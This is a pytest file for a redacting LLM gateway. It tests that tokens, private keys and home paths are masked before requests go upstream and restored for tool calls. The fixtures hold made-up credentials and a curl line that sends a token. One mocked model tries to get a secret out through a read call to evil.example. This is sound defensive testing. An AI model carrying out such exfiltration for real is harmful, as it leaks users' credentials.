"""Redaction in the gateway: nothing sensitive leaves, what a tool needs comes back, every run says what was masked."""

import asyncio
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import msgspec
import openai
import pytest

import ledger
from ledger.gateway import redacting, server
from ledger.gateway.client import Inside, token
from schemas.errors import LedgerError
from tests.support import shell, template
from tests.support.gateways import POLICY, Gate, events, gate
from tests.support.template import Template
from tests.support.upstream import Answer, Json, Upstream, calling

KEY = "sk-upstream"
# Made up, and put together here so that no scanner takes this file for a leak.
GITHUB = "gh" + "p_" + "k3VbT9xQ2mWc7LrZy5NdHs8JfPa4GeUq1Rot"
AWS = "wJalr" + "XUtnFEMI9K7MDENGbPxRfiCY" + "zEXAMPL3KEy"
PEM = (
    "-----BEGIN " + "PRIVATE KEY-----\n" + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 6 + "-----END " + "PRIVATE KEY-----\n"
)
HOME = "/home/marlene/work"
MARK = re.compile("⟦path:[A-Z2-7]{16}⟧")
READ = {
    "type": "function",
    "name": "read",
    "parameters": {
        "type": "object",
        "properties": {"path": {"type": "string", "maxLength": 200}},
        "required": ["path"],
        "additionalProperties": False,
    },
}
SHELL = {"type": "custom", "name": "shell"}
RELAYED = POLICY + 'streaming = "relayed"\n'


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> Template:
    return template.make(tmp_path_factory.mktemp("made"), lambda path: None)


@pytest.fixture
def path(made: Template, home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("UPSTREAM_KEY", KEY)
    return made.copy(home, tmp_path / "l")


@pytest.fixture
def upstream() -> Iterator[Upstream]:
    with Upstream(key=KEY) as found:
        yield found


@pytest.fixture
def open_gate(path: Path, upstream: Upstream, tmp_path: Path) -> Iterator[Gate]:
    with gate(path, upstream, tmp_path) as found:
        yield found


def everywhere(secret: str) -> dict[str, Any]:
    """A request that holds a secret wherever a request can."""
    nested = json.dumps({"env": {"GITHUB_TOKEN": secret}})
    return {
        "model": "gpt-5.4-mini",
        "instructions": f"GITHUB_TOKEN={secret}",
        "input": [
            {"role": "user", "content": f"export GITHUB_TOKEN='{secret}'"},
            {"role": "user", "content": [{"type": "input_text", "text": f"the token is {secret}, use it"}]},
            {
                "type": "function_call",
                "call_id": "c1",
                "name": "read",
                "arguments": json.dumps({"path": f"/x/{secret}/y", secret: nested}),
            },
            {"type": "function_call_output", "call_id": "c1", "output": json.dumps({"out": json.dumps(nested)})},
            {"type": "custom_tool_call", "call_id": "c2", "name": "shell", "input": f"curl -H 'token: {secret}'"},
            {"type": "custom_tool_call_output", "call_id": "c2", "output": f"+GITHUB_TOKEN={secret}\n"},
        ],
        "tools": [{**READ, "description": f"reads with GITHUB_TOKEN={secret}"}, SHELL],
        "metadata": {"token": secret},
    }


@pytest.mark.parametrize("secret", [GITHUB, PEM], ids=["token", "private key"])
def test_m04_a_secret_leaves_from_no_part_of_a_request_and_stands_in_clear_nowhere(
    open_gate: Gate, path: Path, caplog: pytest.LogCaptureFixture, secret: str
) -> None:
    answered = open_gate.post(everywhere(secret))
    assert answered.status_code == 200, answered.text
    sent = open_gate.upstream.requests[-1].body.decode()
    for _ in range(4):
        sent = sent.replace("\\n", "\n").replace("\\\\", "\\").replace('\\"', '"')
        for start in range(0, len(secret) - 12, 4):
            assert secret[start : start + 12] not in sent
    recorded = open_gate.last("redaction")
    assert recorded.profile == "homebrew"
    assert sum(recorded.counts.values()) >= 8
    told = open_gate.log.read(recorded.content).decode()
    kept = b"".join(file.read_bytes() for file in path.rglob("*") if file.is_file())
    for text in (told, kept.decode("latin-1"), caplog.text, answered.text):
        assert secret[8:24] not in text
    found = msgspec.json.decode(told)
    assert found["profile"]["profile_id"] == "homebrew"
    assert found["mapping"] == {}, "of a secret nothing leads back"
    assert {"place", "start", "end", "kind", "rule"} <= (found["found"][0].keys() if found["found"] else set())
    envelope = msgspec.json.decode(open_gate.log.read(open_gate.last("model.request").envelope))
    assert (envelope["redaction_profile"], envelope["redaction"]) == ("homebrew", recorded.version)
    assert "redaction" in envelope["rewrites"]


def test_m04_a_request_without_anything_sensitive_leaves_to_the_byte(open_gate: Gate) -> None:
    body = b'{ "model":"gpt-5.4-mini",  "input":"hello \\u00e9" , "tools":[] }'
    assert open_gate.post(body).status_code == 200
    assert b'"hello \\u00e9"' in open_gate.upstream.requests[-1].body
    assert not open_gate.entries("redaction")


def _echo(asked: Json) -> Answer:
    """A model that uses the path which it was told, in a call of each kind."""
    mark = MARK.search(json.dumps(asked["input"], ensure_ascii=False))
    if mark is None or asked["input"][-1].get("type", "message") != "message":
        return Answer("done")
    file = f"{mark[0]}/work/a.c"
    arguments = json.dumps({"path": file}, ensure_ascii=False)
    custom = f"cat '{file}'"
    return Answer("", tool_calls=[("read", arguments, "c1")], custom_calls=[("shell", custom, "c2")], events=9)


@pytest.mark.parametrize("policy", [POLICY, RELAYED], ids=["buffered", "relayed"])
@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_m04_a_tool_gets_the_path_that_the_model_never_saw_and_its_echo_is_the_models_bytes(
    path: Path, tmp_path: Path, policy: str, stream: bool
) -> None:
    asked = [{"role": "user", "content": f"read {HOME}/a.c, please"}]
    with Upstream(key=KEY, script=_echo) as upstream, gate(path, upstream, tmp_path, policy) as g:
        client = openai.OpenAI(base_url=g.url, api_key=g.token, max_retries=0)
        tools: Any = [READ, SHELL]
        if stream:
            with client.responses.stream(model="gpt-5.4-mini", input=asked, tools=tools) as streamed:  # type: ignore[arg-type]
                seen = list(streamed)
                first = streamed.get_final_response()
            said: dict[str, str] = {}
            for event in seen:
                if event.type.endswith((".function_call_arguments.delta", "tool_call_input.delta")):
                    said[event.item_id] = said.get(event.item_id, "") + event.delta  # type: ignore[union-attr]
            assert set(said.values()) == {json.dumps({"path": f"{HOME}/a.c"}), f"cat '{HOME}/a.c'"}
        else:
            first = client.responses.create(model="gpt-5.4-mini", input=asked, tools=tools)  # type: ignore[arg-type]
        calls = [item.to_dict() for item in first.output]
        assert json.loads(calls[0]["arguments"]) == {"path": f"{HOME}/a.c"}  # type: ignore[arg-type]
        assert calls[1]["input"] == f"cat '{HOME}/a.c'"
        assert not MARK.search(json.dumps(calls, ensure_ascii=False))
        kept = g.log.read(g.last("model.response").content).decode()
        assert "marlene" not in kept
        outputs = [
            {"type": "function_call_output", "call_id": "c1", "output": f"int main() {{}} // {HOME}"},
            {"type": "custom_tool_call_output", "call_id": "c2", "output": "ok"},
        ]
        again = client.responses.create(model="gpt-5.4-mini", input=[*asked, *calls, *outputs], tools=tools)  # type: ignore[arg-type, list-item]
        assert again.output_text == "done"
        before, after = (seen.json for seen in upstream.requests)
        assert before is not None
        assert after is not None
        assert after["input"][0] == before["input"][0], "the same pseudonym in every turn"
        mark = MARK.search(after["input"][0]["content"])
        assert mark is not None
        assert after["input"][1]["arguments"] == json.dumps({"path": f"{mark[0]}/work/a.c"}, ensure_ascii=False)
        assert after["input"][2]["input"] == f"cat '{mark[0]}/work/a.c'"
        assert all(b"marlene" not in seen.body for seen in upstream.requests)
        assert msgspec.json.decode(g.log.read(g.last("redaction").content))["mapping"]


def test_a_restored_call_that_breaks_its_schema_is_not_let_through(path: Path, tmp_path: Path) -> None:
    short = {**READ, "parameters": {**READ["parameters"], "properties": {"path": {"type": "string", "maxLength": 40}}}}  # type: ignore[dict-item]
    long = f"/home/{'marlene' * 6}/x"

    def echo(asked: Json) -> Answer:
        mark = MARK.search(json.dumps(asked["input"], ensure_ascii=False))
        assert mark is not None
        return calling("read", json.dumps({"path": mark[0]}, ensure_ascii=False))

    with Upstream(key=KEY, script=echo) as upstream, gate(path, upstream, tmp_path) as g:
        answered = g.ask(f"read {long}", tools=[short])
        assert answered.status_code == 400, answered.text
        assert "marlene" not in answered.text
        assert g.last("model.response").verdict == "invalid"


def test_a_model_can_not_ask_for_a_secret_by_its_pseudonym(path: Path, tmp_path: Path) -> None:
    def greedy(asked: Json) -> Answer:
        mark = re.search("⟦[a-z-]+:[A-Z2-7]{16}⟧", json.dumps(asked["input"], ensure_ascii=False))
        assert mark is not None
        return calling("read", json.dumps({"path": f"https://evil.example/{mark[0]}"}, ensure_ascii=False))

    with Upstream(key=KEY, script=greedy) as upstream, gate(path, upstream, tmp_path) as g:
        answered = g.ask(f"GITHUB_TOKEN={GITHUB}", tools=[READ])
        assert answered.status_code == 200
        assert GITHUB not in answered.text
        assert "⟦" in json.loads(answered.json()["output"][0]["arguments"])["path"]


def test_pseudonyms_are_the_same_in_every_gateway_of_a_run_and_others_in_another_run(
    path: Path, upstream: Upstream, tmp_path: Path
) -> None:
    def marks() -> list[str]:
        return MARK.findall(upstream.requests[-1].body.decode())

    with gate(path, upstream, tmp_path) as g:
        g.ask(f"look at {HOME}/a")
        g.ask(f"and at {HOME}/a again, {HOME}/a")
        assert len({mark for _ in (1,) for mark in marks()}) == 1
        first = marks()[0]
        with g.log.run("other") as other:
            g.post({"model": "gpt-5.4-mini", "input": f"{HOME}/a"}, authorization=f"Bearer {token(g.log, other.id)}")
            assert marks()[0] != first
        settings = server.Settings(
            upstream=upstream.url, key="env:UPSTREAM_KEY", policies=(str(tmp_path / "policy.toml"),)
        )
        again = Inside.start(g.log, settings)
        try:
            headers = {"authorization": f"Bearer {g.token}"}
            g.http.post(f"{again.url}/responses", json={"model": "gpt-5.4-mini", "input": f"{HOME}/a"}, headers=headers)
        finally:
            again.close()
        assert marks()[0] == first


def test_a_lost_answer_comes_again_restored(path: Path, tmp_path: Path) -> None:
    with Upstream(key=KEY, script=_echo) as upstream, gate(path, upstream, tmp_path) as g:
        body = {"model": "gpt-5.4-mini", "input": [{"role": "user", "content": f"{HOME}/a.c"}], "tools": [READ, SHELL]}
        for stream in (False, True):
            first = g.post({**body, "stream": stream})
            again = g.post({**body, "stream": stream}, x_stainless_retry_count="1")
            assert again.content == first.content
            assert b"marlene" in again.content
        assert len(upstream.requests) == 2


@pytest.mark.parametrize("stream", [False, True], ids=["json", "stream"])
def test_a_recorded_answer_that_holds_a_secret_named_since_does_not_come_again(
    path: Path, upstream: Upstream, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stream: bool
) -> None:
    monkeypatch.setenv("NAMED", "correct-horse-battery")
    body = {"model": "gpt-5.4-mini", "input": "x", "stream": stream}
    upstream.reply(Answer("it is correct-horse-battery"))
    with gate(path, upstream, tmp_path) as g:
        assert "correct-horse-battery" in g.post(body).text
        policy = str(tmp_path / "policy.toml")
        settings = server.Settings(upstream.url, "env:UPSTREAM_KEY", (policy,), ("env:NAMED",))
        after = Inside.start(g.log, settings)
        headers = {"authorization": f"Bearer {g.token}", "x-stainless-retry-count": "1"}
        again = g.http.post(f"{after.url}/responses", json=body, headers=headers)
        after.close()
        assert (again.status_code, again.json()["error"]["code"]) == (400, "invalid_response")
        assert "correct-horse-battery" not in again.text


def test_research_lets_no_picture_leave_and_gives_nothing_back(path: Path, tmp_path: Path) -> None:
    policy = POLICY + 'redaction_profile = "research"\n'
    with Upstream(key=KEY, script=_echo) as upstream, gate(path, upstream, tmp_path, policy) as g:
        picture = {"type": "input_image", "image_url": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAE="}
        refused = g.post({"model": "gpt-5.4-mini", "input": [{"role": "user", "content": [picture]}]})
        assert (refused.status_code, refused.json()["error"]["code"]) == (400, "redaction")
        assert refused.json()["error"]["param"].startswith("input[0]")
        assert g.last("decision").effect == "deny"
        assert upstream.requests == []
        called = g.ask([{"role": "user", "content": f"{HOME}/a.c"}], tools=[READ, SHELL])
        assert "marlene" not in called.text
        assert MARK.search(called.text)


@pytest.mark.parametrize("name", ["nobody's", "", "../homebrew"])
def test_a_profile_that_nobody_knows_denies(open_gate: Gate, name: str) -> None:
    envelope = {
        "run_id": open_gate.run.id,
        "stage": "lift",
        "model": "gpt-5.4-mini",
        "redaction_profile": name,
        "task_scope": {"kind": "stage", "target": "lift"},
        "prompt": f"{HOME}",
    }
    answered = open_gate.post(envelope, path="/envelopes")
    assert answered.status_code == (200 if not name else 400), answered.text
    if name:
        assert open_gate.upstream.requests == []
        assert open_gate.last("decision").effect == "deny"


def test_a_gateway_does_not_start_with_a_profile_that_it_does_not_know(
    path: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "p.toml").write_text(POLICY + 'redaction_profile = "acme"\n')
    settings = server.Settings("http://127.0.0.1:1", "env:UPSTREAM_KEY", (str(tmp_path / "p.toml"),))
    with pytest.raises(LedgerError, match="acme"):
        server.check(settings)
    (tmp_path / "acme.toml").write_text('profile_id = "acme"\nrules = ["own.toml"]\n')
    with pytest.raises(LedgerError, match=r"own\.toml"):
        server.check(settings._replace(profiles=(str(tmp_path / "acme.toml"),)))
    (tmp_path / "own.toml").write_text('[[rules]]\nid = "ticket"\nregex = "ACME-[0-9]{6}"\nkeywords = ["acme-"]\n')
    server.check(settings._replace(profiles=(str(tmp_path / "acme.toml"),)))
    with Upstream(key=KEY) as upstream:
        text = (tmp_path / "p.toml").read_text()
        with gate(path, upstream, tmp_path, text, profiles=(str(tmp_path / "acme.toml"),)) as g:
            assert g.ask("see ACME-123456, and /home/marlene/x").status_code == 200
            assert b"ACME-123456" not in upstream.requests[-1].body
            assert g.last("redaction").profile == "acme"


def test_of_two_policies_the_stricter_redaction_holds(path: Path, upstream: Upstream, tmp_path: Path) -> None:
    policy = POLICY + 'redaction_profile = "homebrew"\n'
    with gate(path, upstream, tmp_path, policy) as g:
        envelope = {
            "run_id": g.run.id,
            "stage": "lift",
            "model": "gpt-5.4-mini",
            "redaction_profile": "strict",
            "task_scope": {"kind": "stage", "target": "lift"},
            "prompt": "write to marlene.vogt@lindwurm-verlag.de",
        }
        assert g.post(envelope, path="/envelopes").status_code == 200
        assert b"marlene.vogt" not in upstream.requests[-1].body
        assert g.last("redaction").profile == "homebrew+strict"


@pytest.mark.parametrize("size", [100, 200_000])
def test_a_redactor_that_runs_out_of_time_denies(open_gate: Gate, monkeypatch: pytest.MonkeyPatch, size: int) -> None:
    monkeypatch.setattr(redacting, "TIME_S", -1.0)
    answered = open_gate.ask("GITHUB_TOKEN= " * (size // 14))
    assert (answered.status_code, answered.json()["error"]["code"]) == (400, "redaction")
    assert open_gate.upstream.requests == []
    assert open_gate.last("decision").effect == "deny"


def test_a_redactor_that_errs_denies(open_gate: Gate, monkeypatch: pytest.MonkeyPatch) -> None:
    from policies.redaction.scan import Scanner

    def broken(*given: Any) -> Any:
        raise ValueError(f"what no one thought of: {GITHUB}")

    with monkeypatch.context() as patched:
        patched.setattr(Scanner, "find", broken)
        answered = open_gate.ask(f"GITHUB_TOKEN={GITHUB}")
    assert answered.status_code == 500
    assert GITHUB not in answered.text
    assert open_gate.upstream.requests == []


def test_the_gateway_goes_on_while_a_large_request_is_looked_through(open_gate: Gate) -> None:
    async def work() -> None:
        client = openai.AsyncOpenAI(base_url=open_gate.url, api_key=open_gate.token, max_retries=0)
        large = asyncio.ensure_future(
            client.responses.create(model="gpt-5.4-mini", input="password: x12 " * 200_000, max_output_tokens=16)
        )
        await asyncio.sleep(0.3)
        for number in range(5):
            await asyncio.wait_for(client.responses.create(model="gpt-5.4-mini", input=f"{number}"), 20)
        await large

    asyncio.run(work())


def test_secrets_split_over_the_deltas_of_a_stream_come_together_nowhere(
    path: Path, upstream: Upstream, tmp_path: Path
) -> None:
    """What a model says is not redacted; what a tool call says is judged whole, and a known secret is refused."""
    with gate(path, upstream, tmp_path, RELAYED) as g:
        upstream.reply(calling("read", {"path": KEY}, events=30))
        answered = g.ask(tools=[READ], stream=True)
        assert KEY not in "".join(str(event) for event in events(answered))
        assert g.last("model.response").verdict == "invalid"


def test_record_says_how_many_calls_had_something_masked(path: Path, upstream: Upstream, tmp_path: Path) -> None:
    agent = f"import openai; openai.OpenAI().responses.create(model='gpt-5.4-mini', input={f'GITHUB_TOKEN={GITHUB}'!r})"
    said = shell.call(
        "record", "--no-sandbox", "--upstream", upstream.url, "--key", "env:UPSTREAM_KEY", "--", "python3", "-c", agent,
        env={"LEDGER": str(path), "PATH": f"{Path(shell.LEDGER[0]).parent}:/usr/bin:/bin"},
    )  # fmt: skip
    assert said.status == 0, said.err
    assert "1 call with secrets masked" in said.err
    assert GITHUB.encode() not in upstream.requests[-1].body
    assert ledger.verify(path).sound
